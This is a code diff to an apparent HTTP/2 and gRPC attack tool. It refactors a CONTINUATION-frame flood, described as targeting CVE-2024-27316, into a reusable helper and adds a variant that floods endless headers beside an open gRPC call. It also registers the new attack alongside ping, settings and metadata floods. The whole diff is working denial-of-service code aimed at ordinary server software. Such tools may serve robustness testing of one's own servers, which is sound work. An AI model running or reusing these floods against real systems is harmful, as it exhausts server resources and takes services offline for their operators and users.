@@ -65,15 +65,27 @@ async def settings_flood(target: Target) -> Answers:
 async def continuation_flood(target: Target) -> Answers:
     """Sends headers that do not end, in 2,000 frames of 16 KiB on each connection
     (CVE-2024-27316 and its like)."""
+    return await _on_connections(target, lambda connection: _endless_head(target, connection, 1))
+
+
+async def continuation_flood_beside_calls(target: Target) -> Answers:
+    """Sends such headers on connections that have a call each, whose message never comes."""
+    call = frame(HEADERS, END_HEADERS, 1, raw_http2.block(target, GENERATE))
 
     async def attack(connection: Connection) -> Answers:
-        name = raw_http2.block(target, GENERATE)
         with contextlib.suppress(OSError):
-            await connection.send(frame(HEADERS, 0, 1, name))
-        header = b"\0\x01x\x7f" + b"\x81\x7e" + b"a" * (MAX_FRAME_BYTES - 128)
-        return await flood(connection, frame(CONTINUATION, 0, 1, header[:MAX_FRAME_BYTES]), 2000)
+            await connection.send(call)
+        return await _endless_head(target, connection, 3)
 
     return await _on_connections(target, attack)
+
+
+async def _endless_head(target: Target, connection: Connection, stream: int) -> Answers:
+    with contextlib.suppress(OSError):
+        await connection.send(frame(HEADERS, 0, stream, raw_http2.block(target, GENERATE)))
+    header = b"\0\x01x\x7f" + b"\x81\x7e" + b"a" * (MAX_FRAME_BYTES - 128)
+    piece = frame(CONTINUATION, 0, stream, header[:MAX_FRAME_BYTES])
+    return await flood(connection, piece, 2000)
 
 
 async def huge_metadata(target: Target) -> Answers:
@@ -147,6 +159,7 @@ ATTACKS = (
     Attack(name="ping_flood", run=ping_flood),
     Attack(name="settings_flood", run=settings_flood),
     Attack(name="continuation_flood", run=continuation_flood),
+    Attack(name="continuation_flood_beside_calls", run=continuation_flood_beside_calls),
     Attack(name="huge_metadata", run=huge_metadata),
     Attack(name="many_grpc_calls", run=many_calls),
 )
